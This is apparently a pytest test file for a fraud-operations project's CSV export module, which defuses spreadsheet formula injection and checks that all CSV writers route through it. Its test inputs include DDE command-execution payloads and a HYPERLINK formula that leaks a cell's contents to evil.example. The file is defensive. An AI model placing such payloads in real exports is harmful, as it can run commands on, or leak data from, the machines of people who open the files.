"""Cells of CSV files for people: none becomes a formula, and all say what they said."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fraudops.reports.safe_csv import safe_cell, write_csv
from hypothesis import example, given
from hypothesis import strategies as st

_FORMULAS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1)', "\t=1+1", "\r=1+1", "\n=1", "  =1", "\0=1", "＝1+1", "-", "=",
        "-1-1", "+49 30 123456",
    ],
)  # fmt: skip
def test_a_text_that_is_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["-5", "+5.20", "-1e-5", "a=b", "shop@home", "x - y", "", "2026-03-05", -5, -0.5, None]
)
def test_what_is_no_formula_stays_as_it_is(value: Any) -> None:
    assert safe_cell(value) == value


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=2, max_size=2)))
@example([["=1", "a\nb"], ['"', ","]])
def test_cells_come_back_and_none_is_a_formula(rows: list[list[Any]]) -> None:
    stream = io.StringIO(newline="")
    assert write_csv(stream, ["a", "=b"], rows) == len(rows)
    stream.seek(0)
    header, *found = list(csv.reader(stream))
    assert header == ["a", "'=b"]
    for row, cells in zip(rows, found, strict=True):
        for value, cell in zip(row, cells, strict=True):
            assert cell.removeprefix("'") == str("" if value is None else value).removeprefix("'")
            assert not cell or cell[0] not in _FORMULAS or cell.lstrip("+-").replace(".", "").isdecimal()


def test_numbers_are_numbers() -> None:
    stream = io.StringIO()
    write_csv(stream, ["n"], [[-5], [Decimal("-1.50")], ["-5"]])
    assert stream.getvalue() == '"n"\n-5\n-1.50\n"-5"\n'


def test_nothing_else_writes_csv_for_people() -> None:
    """Whoever needs another writer, in the library or the pages, has to come through here."""
    root = Path(__file__).parents[2]
    allowed = {"include/fraudops/reports/safe_csv.py", "include/fraudops/intake/simulator/feed.py"}
    found = {
        str(path.relative_to(root))
        for folder in ("include", "plugins", "dags")
        for path in (root / folder).rglob("*.py")
        if any(
            word in path.read_text(encoding="utf-8")
            for word in ("csv.writer", "DictWriter", "to_csv(", "write_csv(", "export_csv(")
        )
    }
    through_here = {
        "include/fraudops/cli/quarantine.py",
        "include/fraudops/cli/trace.py",
        "include/fraudops/filings/forms.py",
        "include/fraudops/monthly/writing.py",
        "include/fraudops/reports/restatement.py",
        "include/fraudops_airflow/web/cases/alerts.py",
    }
    assert found - allowed == through_here
    for name in through_here:
        assert "from fraudops.reports.safe_csv import " in (root / name).read_text(encoding="utf-8")
